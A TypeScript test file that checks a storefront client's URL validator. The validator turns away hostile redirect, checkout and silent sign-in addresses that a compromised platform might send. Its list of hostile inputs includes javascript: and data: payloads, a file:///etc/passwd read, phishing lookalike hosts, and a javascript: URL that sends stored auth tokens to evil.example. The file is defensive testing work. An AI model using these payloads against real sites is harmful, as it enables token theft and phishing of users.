import { describe, expect, it, vi } from 'vitest';
import { getCheckoutUrlForCartV2 } from '../../../src/api/cart-v2';
import { createApiClient } from '../../../src/api/http';
import { createRedirectSession } from '../../../src/api/redirects';
import { checkNavigationUrl, isUnsafeUrlError, UnsafeUrlError } from '../../../src/api/safe-url';
import { runSilentSignIn } from '../../../src/auth/silent';
import { memoryStorage } from '../../../src/auth/storage';
import { fakeFrameWindow } from '../../helpers/frame';
import { HOSTILE_URLS, REDIRECT_SESSION_PATH, refusalOf } from '../../helpers/navigation';
import { SITE_ORIGIN, sessionHarness } from '../../helpers/session';

/** What a compromised or impersonated platform could put in a redirect session's `fullUrl`. */
const HOSTILE = [
  'javascript:alert(document.domain)',
  ' JavaScript:fetch("//evil.example/?"+localStorage.getItem("sf:demo-client:tokens"))',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/0b8e6a43-7f40-4a6c-a8e1-0c5c1d3f7e11',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '/_hosted/checkout?session=1',
  '//evil.example/phish',
  '_hosted/logout',
  '',
  'http://evil.example/phish',
  'http://127.0.0.1.evil.example/',
  'http://localhost.evil.example/',
  'http://[::2]/',
  'ftp://example.com/',
];

describe('checkNavigationUrl', () => {
  it('accepts https: anywhere and http: on loopback hosts, written out as parsed', () => {
    for (const [given, opened] of [
      ['https://www.wix.com/_hosted/checkout?session=1', 'https://www.wix.com/_hosted/checkout?session=1'],
      ['HTTPS://Shop.Example.COM/a b', 'https://shop.example.com/a%20b'],
      ['http://localhost:4100/_hosted/logout', 'http://localhost:4100/_hosted/logout'],
      ['http://127.0.0.1:4100/oauth2/authorize', 'http://127.0.0.1:4100/oauth2/authorize'],
      ['http://127.8.9.10/', 'http://127.8.9.10/'],
      ['http://127.1/', 'http://127.0.0.1/'],
      ['http://[::1]:4100/x', 'http://[::1]:4100/x'],
    ]) {
      expect(checkNavigationUrl(given as string), given).toBe(opened);
    }
  });

  it('refuses everything else with an UnsafeUrlError naming the address', () => {
    for (const url of HOSTILE) {
      let thrown: unknown;
      try {
        checkNavigationUrl(url);
      } catch (error) {
        thrown = error;
      }
      expect(thrown, url).toBeInstanceOf(UnsafeUrlError);
      expect(isUnsafeUrlError(thrown)).toBe(true);
      expect((thrown as Error).message).toBe(refusalOf(url));
    }
  });

  it('shows at most 80 characters of a long address', () => {
    const long = `data:text/html,${'A'.repeat(10_000)}`;
    expect(() => checkNavigationUrl(long)).toThrow(`"${long.slice(0, 80)}"`);
    expect(() => checkNavigationUrl(long)).not.toThrow(long.slice(0, 81));
  });

  it('is recognised by name across bundles', () => {
    expect(isUnsafeUrlError({ name: 'UnsafeUrlError', message: 'x' })).toBe(true);
    expect(isUnsafeUrlError(new Error('x'))).toBe(false);
  });
});

describe('the API client takes no hostile page address from the platform', () => {
  /** A client whose platform answers every call with `body`. */
  const clientAnswering = (body: unknown) =>
    createApiClient({ apiBase: 'https://www.wixapis.com', fetch: async () => Response.json(body) });

  it.each(HOSTILE_URLS)('createRedirectSession refuses a fullUrl of %s', async (url) => {
    const client = clientAnswering({ redirectSession: { id: 'r', fullUrl: url } });
    const created = vi.fn();
    client.on('redirectSession.created', created);
    await expect(createRedirectSession(client, { login: {} })).rejects.toThrow(refusalOf(url));
    expect(created).not.toHaveBeenCalled();
  });

  it('createRedirectSession refuses an answer without a fullUrl', async () => {
    await expect(
      createRedirectSession(clientAnswering({ redirectSession: { id: 'r' } }), { login: {} }),
    ).rejects.toThrow(refusalOf('undefined'));
  });

  it.each(HOSTILE_URLS)('getCheckoutUrlForCartV2 refuses a checkoutUrl of %s', async (url) => {
    await expect(getCheckoutUrlForCartV2(clientAnswering({ checkoutUrl: url }), 'cart-1')).rejects.toThrow(
      refusalOf(url),
    );
  });

  it('passes the platform’s own pages through', async () => {
    const fullUrl = 'https://www.wix.com/_hosted/login?session=1';
    const { redirectSession } = await createRedirectSession(
      clientAnswering({ redirectSession: { id: 'r', fullUrl } }),
      { login: {} },
    );
    expect(redirectSession.fullUrl).toBe(fullUrl);
  });
});

describe('the silent sign-in runner', () => {
  it('frames no hostile address: it rejects before making the iframe, listening or timing', async () => {
    for (const url of HOSTILE) {
      const win = fakeFrameWindow(() => {});
      await expect(runSilentSignIn({ win, url, state: 's' }), url).rejects.toBeInstanceOf(UnsafeUrlError);
      expect(win.frames).toEqual([]);
      expect(win.listenerCount()).toBe(0);
      expect(win.timerCount()).toBe(0);
    }
  });

  it('frames the platform’s https: page and listens to its origin', async () => {
    const win = fakeFrameWindow((frame, w) =>
      w.post({ code: 'c', state: 's' }, 'https://www.wix.com', frame.contentWindow),
    );
    await expect(
      runSilentSignIn({ win, url: 'https://www.wix.com/oauth2/authorize?x=1', state: 's' }),
    ).resolves.toEqual({ code: 'c', state: 's' });
    expect(win.frames.map((f) => f.src)).toEqual(['https://www.wix.com/oauth2/authorize?x=1']);
  });
});

/**
 * The real store and session on the in-process sandbox, with a transport that, once `poisoned`, answers every
 * redirect session with a hostile `fullUrl` (as a compromised platform or a machine in the middle could).
 */
async function hostilePlatform(fullUrl: string, options: { signedIn?: boolean } = {}) {
  const h = sessionHarness();
  let poisoned = false;
  const navigate = vi.fn();
  const { store, session } = h.storeWith(
    { storage: memoryStorage(), win: h.win, navigate, location: () => `${SITE_ORIGIN}/shop` },
    {
      fetch: async (input, init) => {
        const response = await h.fetch(input, init);
        if (
          !poisoned ||
          !String(input instanceof Request ? input.url : input).endsWith(REDIRECT_SESSION_PATH)
        )
          return response;
        const { redirectSession } = (await response.json()) as { redirectSession: Record<string, unknown> };
        return Response.json({ redirectSession: { ...redirectSession, fullUrl } });
      },
    },
  );
  if (options.signedIn) {
    const result = await session.login({ email: 'jane@example.com', password: 'storefront-demo' });
    if (result.loginState !== 'SUCCESS') throw new Error('login failed');
    await session.completeSignIn(result.data.sessionToken);
    await vi.waitFor(() => expect(store.getState().member.status).toBe('ready'));
  }
  const framesBefore = h.win.frames.length;
  poisoned = true;
  const newFrames = () => h.win.frames.slice(framesBefore);
  return { h, store, navigate, newFrames };
}

describe('the store opens no hostile fullUrl', () => {
  it.each(HOSTILE_URLS)('checkout to %s: a checkout error, no navigation', async (url) => {
    const { store, navigate, h } = await hostilePlatform(url);
    await store.getState().start();
    const productId = [...h.sandbox.context.state.products.values()].find(
      (p) => p.slug === 'enamel-pin-set',
    )?.id;
    await store.getState().addToCart({ productId: productId as string });
    await store.getState().checkout();
    expect(navigate).not.toHaveBeenCalled();
    expect(store.getState().cart).toMatchObject({
      checkout: 'error',
      checkoutError: { key: 'checkoutFailed', detail: refusalOf(url) },
    });
    // Nothing is lost: the cart is still there.
    expect(store.getState().cart.count).toBe(1);
  });

  it.each(HOSTILE_URLS)(
    'sign-out to %s: signed out here, no navigation, the refusal on the console',
    async (url) => {
      const { store, navigate } = await hostilePlatform(url, { signedIn: true });
      const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
      await store.getState().signOut();
      expect(navigate).not.toHaveBeenCalled();
      expect(store.getState().session.role).toBe('none');
      // Signed out on this site only, and the console says why the platform's page was not opened.
      expect(warn).toHaveBeenCalledWith(
        '[storefront] the platform could not be told about the sign-out; signed out on this site only:',
        expect.objectContaining({ name: 'UnsafeUrlError', message: refusalOf(url) }),
      );
      warn.mockRestore();
    },
  );

  it.each(HOSTILE_URLS)('an account section at %s: a problem, no navigation', async (url) => {
    const { store, navigate } = await hostilePlatform(url, { signedIn: true });
    expect(await store.getState().openAccountSection('ORDERS')).toEqual({
      key: 'failed',
      detail: `UnsafeUrlError: ${refusalOf(url)}`,
    });
    expect(navigate).not.toHaveBeenCalled();
  });

  it.each(HOSTILE_URLS)('the hosted login page at %s: a problem, no navigation', async (url) => {
    const { store, navigate } = await hostilePlatform(url);
    expect(await store.getState().startHostedLogin()).toEqual({
      key: 'hostedFailed',
      detail: refusalOf(url),
    });
    expect(navigate).not.toHaveBeenCalled();
  });

  it.each(HOSTILE_URLS)('the silent sign-in page at %s: the sign-in fails, no iframe', async (url) => {
    const { store, navigate, newFrames } = await hostilePlatform(url);
    expect(await store.getState().login({ email: 'jane@example.com', password: 'storefront-demo' })).toEqual({
      loginState: 'ERROR',
      problem: { key: 'silentFailed', detail: refusalOf(url) },
    });
    expect(newFrames()).toEqual([]);
    expect(navigate).not.toHaveBeenCalled();
    expect(store.getState().session.role).not.toBe('member');
    expect(store.getState().signIn).toEqual({
      silent: 'failed',
      problem: { key: 'silentFailed', detail: refusalOf(url) },
    });
  });

  it('still navigates to the platform’s own pages', async () => {
    const { store, navigate } = await hostilePlatform('https://www.wix.com/_hosted/account?session=1', {
      signedIn: true,
    });
    expect(await store.getState().openAccountSection('ORDERS')).toBeNull();
    expect(navigate).toHaveBeenCalledWith('https://www.wix.com/_hosted/account?session=1');
  });
});
